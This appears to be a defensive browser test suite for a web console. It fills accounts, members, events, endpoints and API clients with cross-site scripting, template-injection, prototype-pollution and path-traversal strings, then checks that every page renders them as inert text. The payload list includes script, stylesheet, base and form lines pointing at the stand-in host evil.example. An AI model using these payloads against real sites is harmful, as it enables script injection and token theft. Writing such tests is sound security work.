/** Text of other people is text in the console, whatever it is made of. */
import { describe, expect, it } from 'vitest'
import type { TextDatabase } from '../../tools/text-database.ts'
import { canRunChromium } from '../support/chromium.ts'
import { goTo, setUpConsole } from '../support/console-browser.ts'
import { addTenant, type Tenant } from '../support/database.ts'
import { load } from '../support/load.ts'

const CALL = 'stolen(1)'

/** Elements that run by themselves, what leaves an attribute or element, addresses, and names that programs trip over. */
const SHAPES = [
  `<img src=x onerror=${CALL}>`,
  `"><img src=x onerror="${CALL}" class=injected>`,
  `'><svg onload=${CALL}>`,
  `</script><script>${CALL}</script>`,
  `</title><SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `--></a></textarea><details open ontoggle=${CALL}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<style>@import 'data:,*{background:url(javascript:${CALL})}'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example/><input name=token autofocus onfocus=${CALL}></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<plaintext>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `//evil.example/%0a${CALL}`,
  `" style="animation:x" onanimationstart="${CALL}`,
  `' onfocus='${CALL}' autofocus tabindex=1 '`,
  `\${${CALL}}{{constructor.constructor('${CALL}')()}}<%= ${CALL} %>`,
  `\\";${CALL}//`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `\u202e<img src=x onerror=${CALL}>`,
  `${'<b>'.repeat(500)}<img src=x onerror=${CALL}>`,
  'A'.repeat(4_000),
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'undefined', 'null'],
  ...['[object Object]', '../../clients/1', '?state=ok#x'],
]

/** A fleet in which every text that others write is one of the shapes, or all of them. */
async function loadMarkup(database: TextDatabase): Promise<Tenant> {
  const tenant = await addTenant(database)
  for (const statement of STATEMENTS) await load(database, statement, [tenant.accountId, SHAPES])
  return tenant
}

/** Of each: $1 account bigint, $2 shapes text[]. */
const STATEMENTS = [
  `with named as (
     insert into organization (name) select shape from unnest($2::text[]) shape where $1::bigint > 0 returning id, name
   )
   insert into official_account (organization_id, name, channel_id, channel_secret, bot_user_id, basic_id, verification,
                                 verified_at, foreign_destination, foreign_destination_at)
   select id, name, name, 'secret', name, name,
          jsonb_build_object('verified', false, 'account', null, 'accountType', 'unknown', 'webhook', null,
            'checks', jsonb_build_array(jsonb_build_object('name', name, 'ok', false, 'message', name)),
            'checkedAt', '2026-01-01T00:00:00.000Z'),
          now(), name, now()
     from named`,
  `insert into audience_member (channel_oa_id, organization_id, user_id, display_name, picture_url, language, conversation_id,
                                conversation_status, conversation_at, external_id, tags, attributes, profile_due_at)
   select $1, a.organization_id, shape, shape, shape, left(shape, 20), shape, shape, now(), shape, array[shape],
          jsonb_build_object(shape, shape, '__proto__', jsonb_build_object('polluted', shape), 'constructor', shape), null
     from official_account a, unnest($2::text[]) shape where a.id = $1`,
  `update audience_member
      set tags = $2::text[], attributes = (select jsonb_object_agg(shape, shape) from unnest($2::text[]) shape)
    where channel_oa_id = $1 and id = (select min(id) from audience_member)`,
  `insert into event (channel_oa_id, source, kind, key, occurred_at, user_id, payload, failure, is_forwarded)
   select $1, shape, shape, gen_random_uuid(), now(), shape, to_json($2::text[])::text, shape, true
     from unnest($2::text[]) shape`,
  `insert into event (channel_oa_id, source, kind, key, occurred_at, user_id, payload)
   select $1, shape, shape, gen_random_uuid(), now(), (select user_id from audience_member where channel_oa_id = $1 order by id limit 1), shape
     from unnest($2::text[]) shape`,
  `with added as (
     insert into endpoint (channel_oa_id, name, url, status, events)
     select case when position <= 20 then $1 else a.id end, shape, shape, shape, array[shape]
       from unnest($2::text[]) with ordinality as s (shape, position) join official_account a on a.name = shape
      order by position returning id, name
   )
   insert into endpoint_answer (endpoint_id, answered_at, status, answer) select id, now(), 500, name from added`,
  `insert into endpoint_delivery (channel_oa_id, endpoint_id, type, attempts, failed_at, status, answer)
   select $1, (select min(id) from endpoint), shape, 1, now(), 500, shape from unnest($2::text[]) shape`,
  `insert into api_client (client_id, client_secret, name, status)
   select shape, shape, shape, shape from unnest($2::text[]) shape where $1::bigint > 0`,
  `insert into api_key (api_client_id, key, status, channel_oa_id, organization_id)
   select (select min(id) from api_client), shape, shape, a.id, a.organization_id
     from official_account a join unnest($2::text[]) shape on a.name = shape where $1::bigint > 0`,
]

/** What a text must not have made: what the shapes contain, handlers, and links that lead elsewhere. */
const FIND_INJECTED = `(() => {
  const elements = [...document.querySelectorAll('*')]
  const isInjected = (element) =>
    element.matches('.injected, img, iframe, math, base, plaintext, style:not(head *), script:not([src^="/"])') ||
    element.getAttributeNames().some((name) => name.startsWith('on'))
  return [
    ...elements.filter(isInjected).map(({ outerHTML }) => outerHTML.slice(0, 200)),
    ...[...document.links].filter(({ origin }) => origin !== location.origin).map(({ href }) => href),
    ...(({}).polluted === undefined ? [] : ['Object.prototype is polluted']),
  ]
})()`

describe.runIf(canRunChromium('hostile texts in the console are'))('the console', () => {
  const opened = setUpConsole(loadMarkup)

  /** A page whose `stolen()` is a call of the attacker. `expectHarmless` fails if a text was more than text. */
  async function open(path: string) {
    const page = await opened.visit({ path })
    let calls = 0
    await page.exposeFunction('stolen', () => {
      calls += 1
    })
    const expectHarmless = async () => {
      const { pathname } = new URL(page.url())
      expect([pathname, await page.evaluate(FIND_INJECTED)]).toEqual([pathname, []])
      expect(calls).toBe(0)
    }
    return { page, expectHarmless }
  }

  it('shows each of them on the page of one account, member, event, endpoint and client', async () => {
    const idOf = async (statement: string) =>
      String((await opened.database.query<{ id: unknown }>(statement))[0]?.id)
    const account = await idOf(`select id from official_account where name like '<img%' limit 1`)
    const event = await idOf('select min(id) as id from event')
    const endpoint = await idOf('select min(id) as id from endpoint')
    const client = await idOf('select min(id) as id from api_client')
    const { page, expectHarmless } = await open(`/accounts/${account}`)
    await page.getByText('Last verified').waitFor()
    await expectHarmless()
    const user = encodeURIComponent(SHAPES[0] as string)
    const paths = [
      `/accounts/${opened.loaded.accountId}`,
      `/accounts/${opened.loaded.accountId}/audience/${user}`,
      `/events/${event}`,
      `/endpoints/${endpoint}`,
      `/clients/${client}`,
      `/events?reason=${user}&account=${opened.loaded.accountId}`,
    ]
    for (const path of paths) {
      await goTo(page, path)
      await page
        .getByText(SHAPES[0] as string)
        .filter({ visible: true })
        .first()
        .waitFor()
      await expectHarmless()
    }
    await page.getByRole('combobox', { name: 'Account' }).click()
    await page.getByRole('option', { name: /img/ }).first().waitFor()
    await expectHarmless()
  })

  it('shows states of other programs that are names of JavaScript', async () => {
    const { page } = await open('/nothing')
    for (const status of ['__proto__', 'constructor']) {
      await opened.database.query('update endpoint set status = $1', [status])
      await opened.database.query('update api_client set status = $1', [status])
      for (const path of ['/endpoints', '/clients']) {
        await goTo(page, path)
        await page.locator('.tag', { hasText: status }).first().waitFor()
      }
    }
  })

  it('sends no request to another address than the page is about', async () => {
    const { page } = await open('/nothing')
    const paths = `
      /accounts/..%2Fclients%2F1 /accounts/1%2F..%2F2/audience /accounts/..%2Fclients%2F1/audience/U1
      /events/..%2Fclients%2F1 /endpoints/..%2Fsession /clients/..%2Fkeys%2F1
    `
      .trim()
      .split(/\s+/)
    for (const path of paths) {
      await goTo(page, path)
      expect([path, await page.getByRole('heading', { level: 1 }).innerText()]).toEqual([
        path,
        'Page not found',
      ])
    }
    for (const path of ['/events', '/endpoints']) {
      await goTo(page, `${path}?account=${encodeURIComponent('../clients/1')}`)
      const chosen = await page.getByRole('combobox', { name: 'Account' }).inputValue()
      expect([path, chosen]).toEqual([path, 'All accounts'])
    }
  })

  it('keeps text that reverses itself to its own place', async () => {
    const { page } = await open(`/accounts/${opened.loaded.accountId}/audience`)
    await page.locator('tbody a').first().waitFor()
    expect(await page.evaluate(`getComputedStyle(document.querySelector('tbody a')).unicodeBidi`)).toBe(
      'isolate',
    )
  })

  it.each([
    ['/', 'table.fleet tbody tr'],
    ['/accounts/:account/audience', 'main tbody tr'],
    ['/events', 'main tbody tr'],
    ['/endpoints', 'main tbody tr'],
    ['/clients', 'main tbody tr'],
  ])('shows all of them in %s', async (path, rows) => {
    const { page, expectHarmless } = await open(path.replace(':account', String(opened.loaded.accountId)))
    await page
      .locator(rows)
      .nth(SHAPES.length - 1)
      .waitFor()
    await expectHarmless()
    const text = await page.locator('main').innerText()
    expect(SHAPES.filter((shape) => shape.length < 100 && !text.includes(shape.trim()))).toEqual([])
  })
})
